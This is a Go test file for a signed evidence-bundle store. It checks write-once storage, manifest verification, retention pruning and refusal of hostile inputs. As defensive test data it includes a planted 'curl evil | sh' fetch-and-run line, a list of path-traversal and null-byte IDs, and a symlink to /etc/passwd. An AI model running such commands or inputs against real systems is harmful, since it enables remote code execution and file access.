package snapshot_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"parry.dev/parry/functions/snapshot"
	"parry.dev/parry/internal/events"
	"parry.dev/parry/internal/step"
	"parry.dev/parry/internal/step/steptest"
)

// signedBundle is a bundle's files as the step stores them: files, plus a
// manifest.json listing the digests of listed (which may differ from
// files, as a forger's would) signed by key in manifest.sig.
func signedBundle(t *testing.T, key ed25519.PrivateKey, files, listed map[string][]byte) map[string][]byte {
	t.Helper()
	m := snapshot.Manifest{Files: map[string]string{}, Written: time.Now().UTC()}
	for n, data := range listed {
		sum := sha256.Sum256(data)
		m.Files[n] = hex.EncodeToString(sum[:])
	}
	manifest, err := json.Marshal(m)
	must(t, err)
	sig, err := json.Marshal(snapshot.Signature{Algorithm: "ed25519",
		PublicKey: base64.StdEncoding.EncodeToString(key.Public().(ed25519.PublicKey)),
		Signature: base64.StdEncoding.EncodeToString(ed25519.Sign(key, manifest))})
	must(t, err)
	out := map[string][]byte{snapshot.ManifestFile: manifest, snapshot.SignatureFile: sig}
	for n, data := range files {
		out[n] = data
	}
	return out
}

func newKey(t *testing.T) ed25519.PrivateKey {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	must(t, err)
	return key
}

func digestOf(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// storeContract checks what every Store promises, on store: a bundle is
// stored once and never replaced (also by writers racing), fetched whole
// and verified; one whose manifest lists a missing file, or that has an
// extra one, fails verification naming the file.
func storeContract(t *testing.T, store snapshot.Store) {
	ctx := context.Background()
	key := newKey(t)
	pub := key.Public().(ed25519.PublicKey)
	files := map[string][]byte{"pod.json": []byte(`{"kind":"Pod"}`), "logs/app.log": []byte("line 1\n")}
	first := signedBundle(t, key, files, files)
	must(t, store.Put(ctx, "inc-1", "pod-a", first))

	other := signedBundle(t, key, map[string][]byte{"pod.json": []byte(`{"forged":true}`)}, map[string][]byte{"pod.json": []byte(`{"forged":true}`)})
	var exists *snapshot.ExistsError
	if err := store.Put(ctx, "inc-1", "pod-a", other); !errors.As(err, &exists) || !strings.Contains(err.Error(), "never overwritten") {
		t.Fatalf("second Put: %v, want an ExistsError", err)
	}
	m, sig, err := store.Head(ctx, "inc-1", "pod-a")
	must(t, err)
	if !bytes.Equal(m, first[snapshot.ManifestFile]) || !bytes.Equal(sig, first[snapshot.SignatureFile]) {
		t.Fatalf("the stored bundle changed: %s", m)
	}
	if _, _, err := store.Head(ctx, "inc-1", "pod-none"); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("Head of no bundle: %v, want fs.ErrNotExist", err)
	}
	dir := filepath.Join(t.TempDir(), "a")
	must(t, store.Fetch(ctx, "inc-1", "pod-a", dir))
	c, err := snapshot.VerifySigned(dir, pub)
	if err != nil || !c.Trusted || c.ManifestSHA256 != digestOf(first[snapshot.ManifestFile]) {
		t.Fatalf("fetched bundle: %+v %v", c, err)
	}
	if got, err := os.ReadFile(filepath.Join(dir, "logs", "app.log")); err != nil || string(got) != "line 1\n" {
		t.Fatalf("logs/app.log: %q %v", got, err)
	}
	if err := store.Fetch(ctx, "inc-1", "pod-a", dir); err == nil || !strings.Contains(err.Error(), "not empty") {
		t.Fatalf("fetch into a directory with files: %v", err)
	}

	// writers racing for one pod: one bundle wins, whole
	var wg sync.WaitGroup
	errs := make([]error, 6)
	bundles := make([]map[string][]byte, len(errs))
	for i := range errs {
		f := map[string][]byte{"pod.json": []byte(`{"writer":` + string(rune('0'+i)) + `}`)}
		bundles[i] = signedBundle(t, key, f, f)
		wg.Add(1)
		go func() { defer wg.Done(); errs[i] = store.Put(ctx, "inc-1", "pod-race", bundles[i]) }()
	}
	wg.Wait()
	won := -1
	for i, err := range errs {
		switch {
		case err == nil && won >= 0:
			t.Fatalf("writers %d and %d both stored pod-race", won, i)
		case err == nil:
			won = i
		case !errors.As(err, &exists):
			t.Fatalf("writer %d: %v", i, err)
		}
	}
	if won < 0 {
		t.Fatal("no writer stored pod-race")
	}
	m, _, err = store.Head(ctx, "inc-1", "pod-race")
	must(t, err)
	if !bytes.Equal(m, bundles[won][snapshot.ManifestFile]) {
		t.Fatalf("pod-race holds another manifest than the winner's")
	}

	// a manifest that lists a file the bundle lacks, and a bundle with a
	// file its manifest does not list: both fail, naming the file
	ghost := signedBundle(t, key, files, map[string][]byte{"pod.json": files["pod.json"], "logs/app.log": files["logs/app.log"], "ghost.json": []byte("{}")})
	must(t, store.Put(ctx, "inc-1", "pod-ghost", ghost))
	extra := signedBundle(t, key, map[string][]byte{"pod.json": files["pod.json"], "planted.sh": []byte("curl evil | sh")}, map[string][]byte{"pod.json": files["pod.json"]})
	must(t, store.Put(ctx, "inc-1", "pod-extra", extra))
	for pod, want := range map[string]string{"pod-ghost": "ghost.json: openat ghost.json: no such file", "pod-extra": "planted.sh: not in the manifest"} {
		dir := filepath.Join(t.TempDir(), pod)
		must(t, store.Fetch(ctx, "inc-1", pod, dir))
		if _, err := snapshot.VerifySigned(dir, pub); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", pod, err, want)
		}
	}

	pods, err := store.Pods(ctx, "inc-1")
	must(t, err)
	if strings.Join(pods, ",") != "pod-a,pod-extra,pod-ghost,pod-race" {
		t.Fatalf("Pods: %q", pods)
	}
	if pods, err := store.Pods(ctx, "inc-none"); err != nil || len(pods) != 0 {
		t.Fatalf("Pods of an incident without bundles: %q %v", pods, err)
	}
	if !strings.Contains(store.Location("inc-1", "pod-a"), "inc-1") {
		t.Fatalf("Location %q does not name the incident", store.Location("inc-1", "pod-a"))
	}
}

// hostileIDs are incident ids and pod UIDs a sender could put into an
// event to make a store write or read elsewhere.
var hostileIDs = []string{"", ".", "..", "../x", "../../etc", "a/b", "a/../../b", "/etc", "/", "x\x00y", "\x00",
	".hidden", "-flag", "a\\b", "a b", "inc\n", strings.Repeat("a", 129), strings.Repeat("a/", 2000)}

// storeRefusesHostileIDs: every method of store refuses each hostile id,
// as incident and as pod, with an error naming it, before anything is
// written; a valid pair still works (the positive control).
func storeRefusesHostileIDs(t *testing.T, store snapshot.Store, written func() []string) {
	ctx := context.Background()
	key := newKey(t)
	files := signedBundle(t, key, map[string][]byte{"a": []byte("a")}, map[string][]byte{"a": []byte("a")})
	for _, id := range hostileIDs {
		for _, pair := range [][2]string{{id, "pod-1"}, {"inc-1", id}} {
			check := func(op string, err error) {
				t.Helper()
				if err == nil || !strings.Contains(err.Error(), "invalid") {
					t.Errorf("%s(%q, %q): %v, want refused", op, pair[0], pair[1], err)
				}
			}
			check("Put", store.Put(ctx, pair[0], pair[1], files))
			_, _, err := store.Head(ctx, pair[0], pair[1])
			check("Head", err)
			out := filepath.Join(t.TempDir(), "out")
			check("Fetch", store.Fetch(ctx, pair[0], pair[1], out))
			if _, err := os.Stat(out); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("Fetch(%q, %q) made %s", pair[0], pair[1], out)
			}
		}
		_, err := store.Pods(ctx, id)
		if err == nil || !strings.Contains(err.Error(), "invalid incident id") {
			t.Errorf("Pods(%q): %v", id, err)
		}
	}
	if w := written(); len(w) != 0 {
		t.Fatalf("hostile ids wrote %q", w)
	}
	must(t, store.Put(ctx, "inc-1", "pod-1", files))
	if len(written()) == 0 {
		t.Fatal("a valid Put wrote nothing: the check above proves nothing")
	}
}

func TestDirStore(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "evidence")
	store := snapshot.NewDirStore(dir)
	storeContract(t, store)
	// the bundle's directory is read-only and no temporary one is left
	info, err := os.Stat(filepath.Join(dir, "inc-1", "pod-a"))
	must(t, err)
	if info.Mode().Perm() != 0o500 {
		t.Errorf("bundle directory mode %v, want 0500", info.Mode().Perm())
	}
	entries, err := os.ReadDir(filepath.Join(dir, "inc-1"))
	must(t, err)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".") {
			t.Errorf("left behind: %s", e.Name())
		}
	}
	// a symbolic link planted in a stored bundle is not fetched
	must(t, os.Symlink("/etc/passwd", filepath.Join(dir, "inc-1", "pod-a", "passwd")))
	if err := store.Fetch(context.Background(), "inc-1", "pod-a", filepath.Join(t.TempDir(), "x")); err == nil || !strings.Contains(err.Error(), "passwd") {
		t.Errorf("fetch of a bundle with a symbolic link: %v", err)
	}
}

func TestDirStoreRefusesHostileIDs(t *testing.T) {
	top := t.TempDir()
	store := snapshot.NewDirStore(filepath.Join(top, "a", "evidence"))
	storeRefusesHostileIDs(t, store, func() []string { return filesUnder(t, top) })
}

// syncBuffer is a log sink the pruning goroutine writes while the test
// reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestRetentionPrunesOldBundles: the step deletes, in the background,
// bundles older than PARRY_EVIDENCE_RETENTION and a crashed write's
// leftover, logs "evidence pruned" with the count, and keeps a newer
// bundle.
func TestRetentionPrunesOldBundles(t *testing.T) {
	state := t.TempDir()
	evidence := filepath.Join(state, "evidence")
	store := snapshot.NewDirStore(evidence)
	key := newKey(t)
	files := map[string][]byte{"pod.json": []byte("{}")}
	must(t, store.Put(t.Context(), "inc-old", "pod-1", signedBundle(t, key, files, files)))
	must(t, store.Put(t.Context(), "inc-new", "pod-1", signedBundle(t, key, files, files)))
	old := time.Now().Add(-72 * time.Hour)
	must(t, os.Chtimes(filepath.Join(evidence, "inc-old", "pod-1", snapshot.ManifestFile), old, old))
	leftover := filepath.Join(evidence, "inc-new", ".tmp-pod-2-abcdefgh")
	must(t, os.Mkdir(leftover, 0o700))
	must(t, os.Chtimes(leftover, old, old))

	var logs syncBuffer
	settings := map[string]string{snapshot.EnvRetention: "48h"}
	_, err := step.Build(t.Context(), snapshot.Definition(), step.Deps{IncidentKey: steptest.Key, Playbooks: playbooks{}, StateDir: state,
		Getenv: func(k string) string { return settings[k] }, Log: zerolog.New(&logs)})
	must(t, err)
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(evidence, "inc-old")); errors.Is(err, fs.ErrNotExist) && strings.Contains(logs.String(), "evidence pruned") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the old bundle was not pruned; log:\n%s", logs.String())
		}
	}
	if _, err := snapshot.Verify(filepath.Join(evidence, "inc-new", "pod-1")); err != nil {
		t.Fatalf("the newer bundle: %v", err)
	}
	if _, err := os.Stat(leftover); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a crashed write's leftover was kept: %v", err)
	}
	var line struct {
		Message   string `json:"message"`
		Pruned    int    `json:"pruned"`
		Retention int64  `json:"retention"`
	}
	for l := range strings.Lines(logs.String()) {
		if strings.Contains(l, "evidence pruned") {
			must(t, json.Unmarshal([]byte(l), &line))
		}
	}
	if line.Pruned != 1 || time.Duration(line.Retention)*time.Millisecond != 48*time.Hour {
		t.Errorf("log line %+v, want pruned 1, retention 48h", line)
	}
}

func TestParseRetention(t *testing.T) {
	for in, want := range map[string]time.Duration{"": 90 * 24 * time.Hour, "0": 0, "30d": 30 * 24 * time.Hour, "36h": 36 * time.Hour, " 7d ": 7 * 24 * time.Hour} {
		if got, err := snapshot.ParseRetention(in); err != nil || got != want {
			t.Errorf("ParseRetention(%q) = %v, %v; want %v", in, got, err, want)
		}
	}
	for _, in := range []string{"-1h", "0d", "1.5d", "ninety", "90", "-3d", "99999999d"} {
		if _, err := snapshot.ParseRetention(in); err == nil || !strings.Contains(err.Error(), snapshot.EnvRetention) {
			t.Errorf("ParseRetention(%q): %v, want an error naming %s", in, err, snapshot.EnvRetention)
		}
	}
}

// TestSecondSnapshotKeepsTheFirstBundle: a snapshot of a pod whose bundle
// is stored, by a step with another key, replies with the stored bundle
// and its signer; when the stored bundle no longer verifies, the reply is
// a failure and the bundle is left as it is.
func TestSecondSnapshotKeepsTheFirstBundle(t *testing.T) {
	state := t.TempDir()
	reply, first := snap(t, offlineStep(t, state, nil), "inc-twice", "0000-twice")
	if reply.Type() != events.StepDone(snapshot.Name) {
		t.Fatalf("%s %s", reply.Type(), reply.Data())
	}
	// a new key: the next step is another signer
	must(t, os.Remove(filepath.Join(state, snapshot.KeyFile)))
	must(t, os.Remove(filepath.Join(state, snapshot.PublicKeyFile)))
	handle := offlineStep(t, state, nil)
	_, second := snap(t, handle, "inc-twice", "0000-twice")
	if second.ManifestSHA256 != first.ManifestSHA256 || second.KeyFingerprint != first.KeyFingerprint || second.PublicKey != first.PublicKey {
		t.Fatalf("second snapshot %+v, want the first bundle %+v", second, first)
	}
	if c, err := snapshot.Verify(first.Bundle); err != nil || c != first.ManifestSHA256 {
		t.Fatalf("the bundle after a second snapshot: %s %v", c, err)
	}

	sigPath := filepath.Join(first.Bundle, snapshot.SignatureFile)
	must(t, os.Chmod(sigPath, 0o600))
	must(t, os.WriteFile(sigPath, []byte(`{"algorithm":"ed25519","publicKey":"AAAA","signature":"AAAA"}`), 0o600))
	again, _ := snap(t, handle, "inc-twice", "0000-twice")
	if again.Type() != events.StepFailed(snapshot.Name) || !strings.Contains(string(again.Data()), "never overwritten") {
		t.Fatalf("snapshot over a broken bundle: %s %s", again.Type(), again.Data())
	}
	if data, _ := os.ReadFile(sigPath); !strings.Contains(string(data), `"AAAA"`) {
		t.Fatalf("the broken bundle was replaced: %s", data)
	}
}
